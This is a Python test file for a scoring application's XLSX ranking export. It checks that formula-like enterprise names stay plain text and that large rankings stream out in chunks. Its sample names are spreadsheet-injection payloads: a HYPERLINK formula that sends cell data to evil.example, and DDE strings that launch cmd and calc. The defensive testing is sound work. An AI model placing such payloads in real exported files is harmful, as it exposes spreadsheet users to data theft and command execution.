"""The ranking export never writes an enterprise's text as a formula (OWASP CSV injection)."""

from __future__ import annotations

import io
from datetime import UTC
from datetime import datetime
from typing import Any

from openpyxl import load_workbook

from scoring.adapters.files.ranking_xlsx import ranking_workbook
from scoring.domain.ranking import ranking_parts

NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0",
         "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1")


def _row(position: int, name: str) -> dict[str, Any]:
    return {"position": position, "uscc": "91371502MA3DHUQR57", "name": name,
            "town_code": "371502001", "industry_code": "C3451", "verdict": "near",
            "parts": ranking_parts(
                {"score": {"min": "-5", "max": "66", "pass_mark": "71"},
                 "criteria": [{"id": "c1", "status": "fail", "gap": {"text": "=1+1"}}]}),
            "failing": 1, "uses_local_parameter": False, "rulebook_version": "hnte@2016-01-01",
            "evaluated_at": datetime(2026, 1, 5, tzinfo=UTC)}


def test_formula_like_names_read_back_as_the_same_text_and_scores_stay_numbers() -> None:
    data = ranking_workbook("高新技术企业", [_row(i, n) for i, n in enumerate(NAMES, start=1)])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2))
    assert [(r[2].value, r[2].data_type) for r in rows] == [(n, "s") for n in NAMES]
    assert all(r[2].quotePrefix for r in rows)  # Excel keeps it text even when edited
    assert {(r[6].value, r[6].data_type) for r in rows} == {(-5, "n")}
    assert {r[10].data_type for r in rows} == {"s"}


def test_a_long_ranking_leaves_in_pieces_before_its_last_row_and_opens_whole() -> None:
    # issue 16: a province-sized ranking was built whole before its first byte, past the
    # gateway's read timeout; now the file is sent as its rows are written
    from scoring.adapters.files.ranking_xlsx import STEP
    from scoring.adapters.files.ranking_xlsx import ranking_chunks

    rows = (_row(i, f"企业{i}") for i in range(1, 3 * STEP + 1))
    pieces = list(ranking_chunks("高新技术企业", rows))
    assert len([p for p in pieces if p]) > 1 and pieces[0].startswith(b"PK")
    sheet = load_workbook(io.BytesIO(b"".join(pieces)), read_only=True).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 3 * STEP + 1 and rows[-1][:3] == (3 * STEP, "91371502MA3DHUQR57",
                                                         f"企业{3 * STEP}")
